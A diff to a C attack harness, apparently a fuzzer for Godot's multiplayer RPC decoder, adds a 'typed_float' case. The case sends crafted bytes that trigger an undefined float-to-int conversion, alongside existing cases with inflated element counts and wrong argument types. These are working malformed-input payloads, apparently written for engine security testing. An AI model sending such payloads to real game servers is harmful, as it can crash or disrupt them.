@@ -237,6 +237,18 @@ static void a_count_int32(ctx_t *c) { /* a PackedInt32Array claiming 2^29 elemen
 static void a_count_dictionary(ctx_t *c) { /* a Dictionary claiming 2^31-1 pairs, carrying none */
     claim(c, M_ANY, c->g->t_dictionary, 0x7FFFFFFFu, NULL, 0);
 }
+/* Engine finding 7 (docs/engine-findings.md): Array[Vector3i] (Godot 4's typed Array header 0x0009001c, element type
+ * 10) holding Vector3(0, 4.397412e+36, -0): 4.6.3's decode converts the element to Vector3i by int32_t(float), undefined
+ * in C++ for a value out of int's range (core/math/vector3.cpp:161-163); an x86-64 build holds -2147483648 there. The
+ * same bytes to Godot 3 are a type id past VARIANT_MAX. */
+static void a_typed_float(ctx_t *c) {
+    static const uint8_t typed[] = {0x1c, 0x00, 0x09, 0x00, 0x0a, 0, 0, 0, 0x01, 0, 0, 0, 0x09, 0, 0, 0,
+                                    0, 0, 0, 0, 0x4a, 0xba, 0x53, 0x7c, 0x00, 0x00, 0x00, 0x80};
+    buf_t a = args_buf();
+    put_bytes(&a, typed, sizeof typed);
+    rpc_game(c, M_ANY, 1, &a);
+    free(a.p);
+}
 static void a_wrong_types(ctx_t *c) { /* typed(a: int, b: String) called with ("x", 5) */
     buf_t a = args_buf();
     v_string(&a, c->g, "x");
@@ -402,6 +414,7 @@ static const attack_t ATTACKS[] = {
     {"count_array", a_count_array, "any(Array claiming 2^31-1 elements, 1 sent)"},
     {"count_int32", a_count_int32, "any(PackedInt32Array claiming 2^29 elements, 4 sent)"},
     {"count_dictionary", a_count_dictionary, "any(Dictionary claiming 2^31-1 pairs, 0 sent)"},
+    {"typed_float", a_typed_float, "any(Array[Vector3i] holding Vector3(0, 4.397412e+36, -0)): finding 7's undefined conversion"},
     {"wrong_types", a_wrong_types, "typed(a: int, b: String) called with (\"x\", 5)"},
     {"wrong_count", a_wrong_count, "typed(a, b) called with 5 arguments, then 0"},
     {"unknown_method", a_unknown_method, "method id 200 (4) / name no_such_rpc (3) on Game"},
